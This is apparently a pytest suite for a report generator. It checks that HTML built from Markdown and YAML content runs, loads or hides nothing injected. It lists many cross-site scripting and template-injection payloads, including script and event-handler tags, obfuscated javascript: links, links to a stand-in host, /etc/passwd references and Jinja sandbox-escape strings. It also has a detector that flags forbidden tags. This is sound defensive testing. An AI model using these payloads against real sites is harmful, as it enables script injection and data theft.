"""No way in: whatever stands in a field of the content, nothing of it runs, loads or hides."""

import html.parser
import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element, SubElement

import pytest
import yaml

from reportgen.problems.source import Source
from reportgen.read.yaml_reader import read_yaml
from reportgen.text import prose, writers
from tests.projects import LETTER, TOWN, MakeProject, Run, region

MARK = "xq7z"
"""What every attack carries, so that where it went can be seen."""

ATTACKS = [
    "<script>xq7z()</script>",
    "<SCRIPT SRC=//xq7z.example/x.js></SCRIPT>",
    "<scr<script>ipt>xq7z()</scr</script>ipt>",
    "<script/xq7z>xq7z()</script>",
    "</title><script>xq7z()</script>",
    "</textarea><script>xq7z()</script>",
    "--><script>xq7z()</script><!--",
    "]]><script>xq7z()</script>",
    "<![CDATA[<script>xq7z()</script>]]>",
    "<img src=x onerror=xq7z()>",
    "<img src=x onerror='xq7z()'//",
    "<IMG SRC=x OnErRoR=xq7z()>",
    "<img/src=x/onerror=xq7z()>",
    "<img src=`x` onerror=`xq7z()`>",
    "<svg onload=xq7z()>",
    "<svg><script>xq7z()</script></svg>",
    "<svg><animate onbegin=xq7z() attributeName=x>",
    "<svg><use href='data:image/svg+xml,xq7z#a'/></svg>",
    "<math><mtext></p><script>xq7z()</script></math>",
    "<math><a xlink:href='javascript:xq7z()'>x</a></math>",
    "<noscript><p title='</noscript><img src=x onerror=xq7z()>'>",
    "<body onload=xq7z()>",
    "<details open ontoggle=xq7z()>",
    "<p style='background: url(http://xq7z.example/)'>",
    "<style>* { background: url(http://xq7z.example/) }</style>",
    "<link rel=stylesheet href=//xq7z.example/>",
    "<meta http-equiv=refresh content='0; url=javascript:xq7z()'>",
    "<base href=//xq7z.example/>",
    "<iframe src=javascript:xq7z()></iframe>",
    "<iframe srcdoc='<script>xq7z()</script>'></iframe>",
    "<object data=//xq7z.example/></object>",
    "<embed src=//xq7z.example/>",
    "<form action=//xq7z.example/><input type=submit></form>",
    "<button formaction=javascript:xq7z()>x</button>",
    "<a href=javascript:xq7z()>x</a>",
    "<a href='  java\tscript:xq7z()'>x</a>",
    "<template><script>xq7z()</script></template>",
    "[x](javascript:xq7z())",
    "[x](JaVaScRiPt:xq7z())",
    "[x](java&#115;cript:xq7z())",
    "[x](java%73cript:xq7z())",
    "[x](\u0001javascript:xq7z())",
    "[x](java\u200bscript:xq7z())",
    "[x](vbscript:xq7z())",
    "[x](data:text/html,<script>xq7z()</script>)",
    "[x](data:text/html;base64,eHE3eg==)",
    "[x](//xq7z.example/x)",
    "[x](file:///etc/passwd?xq7z)",
    "[x](<javascript:xq7z()>)",
    "[x](https://a.example/ \"x' onmouseover='xq7z()\")",
    "[x](https://a.example/\"onmouseover=\"xq7z())",
    "[x][xq7z]",
    "![x](javascript:xq7z())",
    "![x](http://xq7z.example/x.png)",
    "<javascript:xq7z()>",
    "<https://a.example/\"onmouseover=xq7z()>",
    "&lt;script&gt;xq7z()&lt;/script&gt;",
    "&#60;script&#62;xq7z()&#60;/script&#62;",
    "\\<script\\>xq7z()\\</script\\>",
    "`<script>xq7z()</script>`",
    "\" onmouseover=\"xq7z()",
    "' onmouseover='xq7z()",
    "{{ xq7z }}",
    "{{ ''.__class__.__mro__ }} xq7z",
    "{% include '/etc/passwd' %} xq7z",
    "{# xq7z #}",
    "${xq7z} #{xq7z} <%= xq7z %>",
    "\u2028<script>xq7z()</script>",
    "\ue000basis\ue001<script>xq7z()</script>",
    "\uff1cscript\uff1exq7z()\uff1c/script\uff1e",
]  # fmt: skip

ALLOWED = frozenset(
    "html head meta title link body a header div p h1 h2 h3 h4 h5 nav ol ul li main section strong "
    "em br table caption thead tbody tr th td span sup svg rect line figure figcaption blockquote "
    "dl dt dd footer wbr".split()
)
OWN = re.compile(
    r'<script src="assets/index.js" defer></script>|<form class="finder" role="search">|</form>|'
    r'<label for="(find|by-[a-z]+)">|</label>|<input id="find" type="search"[ a-z="-]*>|'
    r'<select id="by-[a-z]+" autocomplete="off" aria-controls="list" data-filter="[a-z]+">|'
    r'<option value="\d+">|</option>|</select>|<button type="reset">|</button>|'
    r'<details class="standards-key">|<summary>|</summary>|</details>|'
    r' href="(assets|data|north)/[a-z./]+"|<time [^>]*>',
)
"""The tags that the index page has besides, as they are written; words between them stay."""
LEAD = (
    *("https://", "http://", "mailto:", "#"),
    *(
        "../assets/",
        "assets/",
        "index.html",
        "../index.html",
        "accessibility.html",
        "../accessibility.html",
        "town.pdf",
        "letter.pdf",
    ),
)
"""How addresses begin that a page may hold."""
LOADS = {"src", "srcset", "data", "poster", "action", "formaction", "background", "style", "srcdoc"}


class _Reader(html.parser.HTMLParser):
    """What a page holds that content should never have put there."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in LOADS:
                self.wrong.append(f"{tag} {name}={value}")
            if name in ("href", "xlink:href") and not address.startswith(LEAD):
                self.wrong.append(f"{tag} {name}={value}")
            if tag == "meta" and name == "http-equiv" and value != "Content-Security-Policy":
                self.wrong.append(f"{tag} {name}={value}")
            if name not in (
                "href",
                "content",
                "data-running-title",
                "id",
                "aria-label",
            ) and MARK in (value or ""):
                self.wrong.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}>")


def wrong(page: str) -> list[str]:
    """What is in a page that must not be."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.wrong


def test_the_reader_sees_what_it_looks_for() -> None:
    for attack in (
        "<script>",
        "<img src=x>",
        "<a href=' java\tscript:x'>",
        "<p onclick=x>",
        "<!-- -->",
    ):
        assert wrong(f"<html>{attack}")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("blocks", [True, False], ids=["blocks", "line"])
def test_prose_lets_nothing_in(attack: str, blocks: bool) -> None:
    for text in (
        attack,
        f"Good. {attack} More.",
        f"- {attack}\n- x",
        f"**{attack}**",
        f"[{attack}](https://a.example)",
    ):
        html = prose.to_html(text, blocks=blocks)
        assert wrong(html) == []
        assert {*re.findall(r"<([a-z0-9]+)", html)} <= {*writers.ATTRIBUTES}


@pytest.mark.parametrize("address", ["javascript:xq7z()", "DATA:text/html,x", "//x.example", "x"])
def test_the_writer_lets_no_address_in_by_itself(address: str) -> None:
    """Whatever a reader of Markdown let pass, or another program put into the tree."""
    tree = Element("p")
    SubElement(tree, "a", {"href": address, "title": "why"}).text = "words"
    (said,) = writers.html_of(tree)
    assert "href" not in said
    assert "words" in said


def fields(value: Any, place: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """The place of every text in a file that is not there for the program alone."""
    if isinstance(value, Mapping):
        for name, inner in value.items():
            if not place and name in ("kind", "framework"):
                continue
            yield from fields(inner, (*place, name))
    elif isinstance(value, list):
        for at, inner in enumerate(value):
            yield from fields(inner, (*place, at))
    elif isinstance(value, str):
        yield place


def replaced(value: Any, place: tuple[str | int, ...], text: str) -> Any:
    """A tree with another text at a place."""
    if not place:
        return text
    inner = replaced(value[place[0]], place[1:], text)
    if isinstance(value, Mapping):
        return {**value, place[0]: inner}
    return [inner if at == place[0] else one for at, one in enumerate(value)]


FILES = [
    TOWN, LETTER, "content/north/village.yaml", "content/north/region.yaml",
    "content/shared/people.yaml", "content/shared/publisher.yaml", "content/frameworks/tiny.yaml",
]  # fmt: skip
PROBE = (
    'Good "><script>xq7z()</script> <img src=x onerror=xq7z()> [x](javascript:xq7z()) '
    '{{ facts.xq7z }} " onclick="xq7z() &lt;script&gt; </title><svg onload=xq7z()>'
)


def pages(root: Path) -> list[str]:
    """The pages of documents, and the index, whose own script and search are no way in."""
    files = [file.read_text("utf-8") for file in sorted((root / "output").rglob("*.html"))]
    return [re.sub(OWN, "", page) if 'class="index"' in page else page for page in files]


@pytest.mark.slow
@pytest.mark.parametrize("path", FILES)
def test_no_field_lets_anything_in(path: str, make_project: MakeProject, run: Run) -> None:
    """Each text of each file in its turn: it is refused with a message, or it is only text."""
    files = region()
    parsed, _ = read_yaml(Source(path, files[path]))
    assert parsed
    tree = parsed.data()
    printed = 0
    root = make_project(files=files)
    for place in fields(tree):
        changed = yaml.safe_dump(replaced(tree, place, PROBE), allow_unicode=True, sort_keys=False)
        (root / path).write_text(changed, "utf-8")
        which = ["north/letter"] if path == LETTER else ["north/town"]
        result = run("build", "--format", "html", "--force", *which, cwd=root)
        assert result.code in (0, 1), result.err
        assert result.code == 0 or "error[" in result.err
        for page in pages(root):
            printed += MARK in page
            assert wrong(page) == [], (place, page)
    assert printed or path.endswith(("village.yaml", "region.yaml", "tiny.yaml", "letter.yaml"))


def test_text_that_looks_like_a_template_is_text(make_project: MakeProject, run: Run) -> None:
    attack = "{% for x in ().__class__.__base__.__subclasses__() %}xq7z{% endfor %}"
    people = f"kind: people\npeople:\n  chief: {{name: '{attack}', post: '{{# x #}}'}}\n"
    name = re.search(r"signatory: (\S+)", region()[TOWN])
    assert name
    root = make_project(files={"content/shared/people.yaml": people.replace("chief", name[1])})
    result = run("build", "--format", "html", cwd=root)
    assert result.code == 0, result.err
    whole = "".join(pages(root))
    assert attack in whole
    assert "{# x #}" in whole
    assert "xq7zxq7z" not in whole
